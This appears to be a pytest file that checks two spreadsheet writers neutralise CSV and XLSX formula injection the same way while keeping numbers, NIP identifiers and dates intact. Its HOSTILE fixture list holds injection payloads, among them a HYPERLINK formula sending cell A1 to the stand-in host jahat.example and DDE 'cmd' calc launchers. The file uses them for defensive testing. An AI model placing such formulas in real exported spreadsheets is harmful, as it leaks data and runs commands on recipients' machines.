"""One set of hostile and tricky cells through both spreadsheet writers (the companion's and the
blocks'), which must agree byte for byte; and a check that nothing else in either half writes CSV
or XLSX (ADR 0105).

The hostile cells follow OWASP's "CSV Injection" page (= + - @, tab, carriage return and their
full-width forms) and ASVS 1.2.10 (NUL); the tricky ones are what a careless neutraliser breaks:
negative numbers, 18-digit NIPs, identifiers with leading zeros, decimals in the Indonesian layout.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from companion_service.core import tabular
from xblocks.common import spreadsheet

REPO = Path(__file__).resolve().parents[2]
NIP = "199001012015031001"

HOSTILE = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\uff1d1+1",  # full-width equals
    "\uff0b1+1",  # full-width plus
    "\uff0d1+1",  # full-width minus
    "\uff20SUM(A1)",  # full-width at
    'a;b,"c"\r\n=1+1',  # separators, quotes and a line break cannot start a new live cell
]
TRICKY = [
    -3,
    -2.5,
    Decimal("-1.25"),
    0.1,
    1e-7,
    12345.678,
    float("nan"),
    "-5",
    "-2.5",
    NIP,
    int(NIP),
    "0012",
    "+6281234567890",
    "'kutipan",
    "Rp 1.500.000",
    "Dinas Kependudukan dan Pencatatan Sipil",
    dt.date(2026, 3, 31),
    dt.datetime(2026, 3, 31, 2, 30, tzinfo=dt.UTC),
    True,
    None,
    "",
]
CELLS = HOSTILE + TRICKY


def rows_of(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "CSV files start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("layout", ["semicolon", "comma"])
def test_both_writers_write_the_same_bytes(layout):
    header = ["Judul", "=jahat", "NIP"]
    rows = [[cell, index] for index, cell in enumerate(CELLS)]
    companion = tabular.write_csv(header, rows, tabular.CSV_LAYOUTS[layout])
    blocks = spreadsheet.write_csv(header, rows, spreadsheet.CSV_LAYOUTS[layout])
    assert companion == blocks
    for value in CELLS:
        assert tabular.csv_cell(value, tabular.CSV_LAYOUTS[layout]) == spreadsheet.csv_cell(
            value, spreadsheet.CSV_LAYOUTS[layout]
        ), value


@pytest.mark.parametrize("layout", ["semicolon", "comma"])
def test_no_csv_cell_is_a_live_formula(layout):
    chosen = tabular.CSV_LAYOUTS[layout]
    data = tabular.write_csv(["Judul", "=jahat"], [[cell] for cell in CELLS], chosen)
    for row in rows_of(data, chosen.delimiter):
        for cell in row:
            if cell[:1] == "=":
                # The only formula we write: an identifier's digits as text.
                assert re.fullmatch(r'="\+?\d+"', cell), cell
            elif cell[:1] in tabular.FORMULA_TRIGGERS or cell.lstrip()[:1] in tabular.FORMULA_TRIGGERS:
                assert re.fullmatch(r"-\d+([.,]\d+)?", cell), f"live formula: {cell!r}"
    assert len(rows_of(data, chosen.delimiter)) == len(CELLS) + 1  # nothing broke out into new rows


def test_hostile_text_gets_an_apostrophe_and_keeps_its_words():
    cell = tabular.csv_cell('=HYPERLINK("http://jahat.example")')
    assert cell == '\'=HYPERLINK("http://jahat.example")'
    assert tabular.csv_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert tabular.csv_cell("\x00=1+1") == "'=1+1"  # NUL dropped, then neutralised
    assert tabular.csv_cell("'kutipan") == "'kutipan"  # an apostrophe alone is left as it is
    for text in ("'kutipan", "'=1+1", "''=1", "=1", "' =1", "\t1", "-5", "'-5", "-5 menit", "Rp -5"):
        assert tabular.unescape_text(tabular.safe_text(text)) == text  # the escape round-trips
        assert spreadsheet.unescape_text(spreadsheet.safe_text(text)) == text


def test_negative_numbers_stay_numbers():
    semicolon, comma = tabular.SEMICOLON, tabular.COMMA
    assert [tabular.csv_cell(v, comma) for v in (-3, -2.5, Decimal("-1.25"), "-5", "-2.5")] == [
        "-3",
        "-2.5",
        "-1.25",
        "-5",
        "-2.5",
    ]
    assert [tabular.csv_cell(v, semicolon) for v in (-3, -2.5, 1e-7, 12345.678)] == [
        "-3",
        "-2,5",
        "0,0000001",
        "12345,678",
    ]


def test_nips_and_identifiers_stay_text_in_csv():
    for layout in tabular.CSV_LAYOUTS.values():
        assert tabular.csv_cell(NIP, layout) == f'="{NIP}"'
        assert tabular.csv_cell(int(NIP), layout) == f'="{NIP}"'
        assert tabular.csv_cell("0012", layout) == '="0012"'
    # ... and read back as the digits by the companion's importers.
    data = tabular.write_csv(["nip", "nama"], [[NIP, "Ani"]])
    assert tabular.read_table(data, "asn.csv").rows[0].cells == {"nip": NIP, "nama": "Ani"}


def test_indonesian_layout_is_the_default_for_indonesian():
    assert tabular.csv_layout(None, "id") is tabular.SEMICOLON
    assert tabular.csv_layout(None, "en") is tabular.COMMA
    assert tabular.csv_layout("comma", "id") is tabular.COMMA
    assert tabular.csv_layout("nonsense", "en") is tabular.COMMA
    for language in ("id", "en", None):
        ours, theirs = tabular.csv_layout(None, language), spreadsheet.csv_layout(None, language)
        assert (ours.key, ours.delimiter, ours.decimal) == (theirs.key, theirs.delimiter, theirs.decimal)


def test_xlsx_cells_are_typed_and_inert():
    header = ["Judul", "=jahat"]
    book = load_workbook(
        io.BytesIO(tabular.write_xlsx(tabular.Sheet("Ide: [uji]/*?", header, [[c] for c in CELLS])))
    )
    sheet = book.active
    assert sheet.title == "Ide   uji"
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sheet["B1"].value == "'=jahat" and sheet["B1"].data_type == "s"
    for source, cell in zip(CELLS, cells, strict=True):
        assert cell.data_type != "f", f"{source!r} became a formula"
        if isinstance(source, str) and source in HOSTILE[:-1]:  # the last one starts with "a"
            assert cell.value.startswith("'"), source
    by_source = dict(zip(map(repr, CELLS), cells, strict=True))
    nip = by_source[repr(NIP)]
    assert (nip.value, nip.data_type, nip.number_format) == (NIP, "s", "@")
    assert by_source[repr(int(NIP))].value == NIP
    assert by_source[repr(-3)].value == -3 and by_source[repr(-2.5)].value == -2.5
    assert by_source[repr("-5")].value == "-5"
    assert by_source[repr(dt.date(2026, 3, 31))].value == dt.datetime(2026, 3, 31)
    assert by_source[repr(dt.datetime(2026, 3, 31, 2, 30, tzinfo=dt.UTC))].value == dt.datetime(
        2026, 3, 31, 9, 30
    )


# --- one writer per half -------------------------------------------------------------------------

WRITERS = {
    "companion_service": "companion_service/core/tabular.py",
    "xblocks": "xblocks/common/spreadsheet.py",
}
# What writes a spreadsheet: the csv module's writers, openpyxl, tablib, xlsxwriter, pandas' to_csv.
WRITING = re.compile(
    r"csv\.writer|csv\.DictWriter|DictWriter\(|\bwriter\(|import openpyxl|from openpyxl|import tablib"
    r"|\btablib\.|xlsxwriter|\.to_csv\(|\.to_excel\(|\.export\([\"'](csv|xlsx)"
)


@pytest.mark.parametrize("half", sorted(WRITERS))
def test_only_the_writer_writes_spreadsheets(half):
    offenders = []
    for path in sorted((REPO / half).rglob("*.py")):
        relative = path.relative_to(REPO).as_posix()
        if relative == WRITERS[half] or "/migrations/" in relative:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITING.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "CSV/XLSX written outside the one writer:\n" + "\n".join(offenders)
